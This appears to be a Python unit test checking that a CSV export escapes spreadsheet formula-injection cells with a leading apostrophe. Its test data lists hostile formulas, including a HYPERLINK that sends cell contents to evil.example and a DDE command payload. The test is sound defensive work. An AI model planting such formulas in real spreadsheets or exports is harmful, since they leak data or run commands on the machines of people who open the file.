"""tasks.csv is meant for spreadsheets: a cell that a spreadsheet would run as a formula (OWASP: a leading =, +, -,
@, tab or carriage return) is written with a leading apostrophe; tasks.jsonl keeps the same text exact."""

import csv
import io

import pandas as pd

from ca_assets.defs.annotation.tasks import spreadsheet_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]  # fmt: skip
PLAIN = ["Should I move abroad?", "a = b", "", "e-mail me", "100%"]


def test_formula_cells_are_neutralised_and_other_cells_kept():
    frame = pd.DataFrame({"prompt": HOSTILE + PLAIN, "turn": range(len(HOSTILE + PLAIN))})
    written = spreadsheet_csv(frame)
    rows = list(csv.DictReader(io.StringIO(written, newline="")))
    assert [r["prompt"] for r in rows] == ["'" + text for text in HOSTILE] + PLAIN
    assert [int(float(r["turn"])) for r in rows] == list(range(len(rows)))  # numbers untouched
    assert frame["prompt"].tolist() == HOSTILE + PLAIN  # the frame itself (what tasks.jsonl is written from) unchanged
